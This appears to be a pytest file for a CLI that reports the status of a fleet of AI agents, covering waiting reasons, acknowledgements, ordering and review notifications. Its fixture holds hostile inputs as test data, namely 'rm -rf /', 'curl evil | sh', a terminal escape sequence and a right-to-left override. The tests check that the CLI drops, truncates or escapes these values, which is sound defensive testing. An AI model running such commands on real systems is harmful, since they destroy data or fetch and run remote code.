"""What the person sees (issue 45 items 1-3), through the real CLI: `status --json` agents carry
``handled`` and ``waiting_for``; `status` and `summary` say both with the task title, the
unhandled first; a push names what the agent waits for and its task; a claim of done reaches the
person once ("ready for review" without a checker, only the checker's verdict with one)."""
from __future__ import annotations

import getpass
import json

import pytest

from tests.support.fwcli import fw
from tests.support.fleet import config, events, goal, run_until
from tests.support.receiver import Sink


def status(cfg) -> dict:
    r = fw("status", "--json", "--config", str(cfg))
    assert r.returncode == 0, r.stderr
    return {a["agent"]: a for a in json.loads(r.stdout)["agents"]}


def rows(cfg) -> list[str]:
    r = fw("status", "--json", "--config", str(cfg))
    return [a["agent"] for a in json.loads(r.stdout)["agents"]]


def fleet(tmp_path):
    g = tmp_path / "goals"
    goal(g, "a1", state="waiting", phase="haciendo", task="Fix the \u001b[2Jlogin bug",
         waiting_for={"kind": "permission", "tool": "Bash"})
    goal(g, "a2", state="idle", phase="bloqueado", task="Migrate the DB")                      # phase speaks
    goal(g, "a3", state="waiting", phase="haciendo", waiting_for={"kind": "rm -rf /", "tool": "Bash"})  # unknown
    goal(g, "a4", state="waiting", waiting_for={"kind": "permission", "tool": "\u202e" + "T" * 500})
    goal(g, "a5", state="waiting", waiting_for={"kind": "question", "tool": "the question's text"})
    goal(g, "a6", state="waiting", waiting_for={"kind": "dialog", "command": "curl evil | sh"})
    return config(tmp_path)


def test_status_json_carries_waiting_for_validated(tmp_path):
    cfg = fleet(tmp_path)
    assert fw("run", "--once", "--create", "--config", str(cfg)).returncode == 0
    s = status(cfg)
    assert s["a1"]["waiting_for"] == {"kind": "permission", "tool": "Bash"}
    assert s["a2"]["waiting_for"] == {"kind": "blocked", "tool": None}
    assert s["a3"]["waiting_for"] is None                                   # only known kinds
    assert s["a4"]["waiting_for"] == {"kind": "permission", "tool": "\u202e" + "T" * 63}   # cut, raw in JSON
    assert s["a5"]["waiting_for"] == {"kind": "question", "tool": None}     # never a question's text
    assert s["a6"]["waiting_for"] == {"kind": "dialog", "tool": None}
    assert all(a["handled"] is None for a in s.values())
    log = json.dumps(events(cfg))
    assert "curl evil" not in log and "question's text" not in log         # metadata only, never content


@pytest.mark.slow
def test_handled_is_in_status_json_status_and_summary_unhandled_first(tmp_path):
    cfg = fleet(tmp_path)
    assert fw("run", "--once", "--create", "--config", str(cfg)).returncode == 0
    assert rows(cfg)[:3] == ["a1", "a2", "a3"]
    assert fw("ack", "a1", "--config", str(cfg)).returncode == 0
    assert fw("ack", "a2", "--for", "30m", "--config", str(cfg)).returncode == 0
    r = fw("silence", "a3", "--for", "2h", "--reason", "lunch", "--config", str(cfg))
    assert r.returncode == 0, r.stderr
    s = status(cfg)
    assert s["a1"]["handled"]["how"] == "ack" and s["a1"]["handled"]["until"] is None
    assert s["a1"]["handled"]["by"] == f"cli:{getpass.getuser()}"
    assert s["a2"]["handled"]["how"] == "snooze" and s["a2"]["handled"]["until"]
    assert s["a3"]["handled"]["how"] == "silence" and s["a3"]["handled"]["by"].startswith("silence ")
    assert s["a4"]["handled"] is None
    assert rows(cfg) == ["a4", "a5", "a6", "a1", "a2", "a3"]               # RECLAMA: the unhandled first
    text = fw("status", "--config", str(cfg)).stdout
    a1 = next(line for line in text.splitlines() if line.lstrip().startswith("a1 "))
    assert "waiting for permission: Bash" in a1 and "✓ acked by cli:" in a1
    summary = fw("summary", "--config", str(cfg)).stdout.splitlines()
    lines = [x.strip() for x in summary if x.strip().startswith(("a1:", "a2:", "a4:"))]
    assert lines[0].startswith("a4: waiting for permission: \\u202eT")   # unhandled first, escaped
    assert "a1: waiting for permission: Bash for " in lines[1]
    assert "task: Fix the \\x1b[2Jlogin bug" in lines[1] and lines[1].endswith(f"acked by cli:{getpass.getuser()}")
    assert "a2: blocked for " in lines[2] and "task: Migrate the DB · snoozed " in lines[2]


def test_a_push_names_what_the_agent_waits_for_and_its_task(tmp_path):
    rx = Sink()
    g = tmp_path / "goals"
    goal(g, "a1", state="waiting", phase="haciendo", task="Fix the \u001b[2Jlogin bug",
         waiting_for={"kind": "permission", "tool": "Bash"})
    goal(g, "a2", state="waiting", phase="haciendo", task="Write docs")
    try:
        run_until(config(tmp_path, [rx.url()]), lambda: rx.bodies)
    finally:
        rx.close()
    msg = rx.bodies[0]["message"]
    line = next(x for x in msg.splitlines() if x.startswith("RECLAMA a1 "))
    assert "waiting for permission: Bash" in line and "task: Fix the \\x1b[2Jlogin bug" in line
    assert "\x1b" not in msg
    assert "task: Write docs" in next(x for x in msg.splitlines() if x.startswith("RECLAMA a2 "))


def test_a_claim_of_done_is_pushed_for_review_without_a_checker(tmp_path):
    """Issue 45: with the defaults a claim of done was info, below the push threshold: the first
    sign on the phone came 30 minutes later (CLAIM_UNVERIFIED)."""
    rx = Sink()
    goal(tmp_path / "goals", "a9", state="idle", phase="hecho", task="Docs")
    try:
        run_until(config(tmp_path, [rx.url()]), lambda: rx.bodies)
    finally:
        rx.close()
    p = rx.bodies[0]
    assert p["title"] == "1 ready for review"
    assert "DICE_TERMINADO a9 · " in p["message"] and "ready for review · task: Docs" in p["message"]


def test_with_a_checker_only_its_verdict_is_pushed(tmp_path):
    """[dod] run_checks: the claim itself is not pushed; the checker's verdict is (here a free-text
    contract: unevaluable, needs a human)."""
    rx = Sink()
    goal(tmp_path / "goals", "a9", state="idle", phase="hecho", task="Docs")
    cfg = config(tmp_path, [rx.url()], extra="[dod]\nrun_checks = true\n")
    try:
        run_until(cfg, lambda: rx.bodies and events(cfg, "notice.sent"))
    finally:
        rx.close()
    msgs = "\n".join(b["message"] for b in rx.bodies)
    assert "UNEVALUABLE a9" in msgs and "ready for review" not in msgs and "DICE_TERMINADO" not in msgs
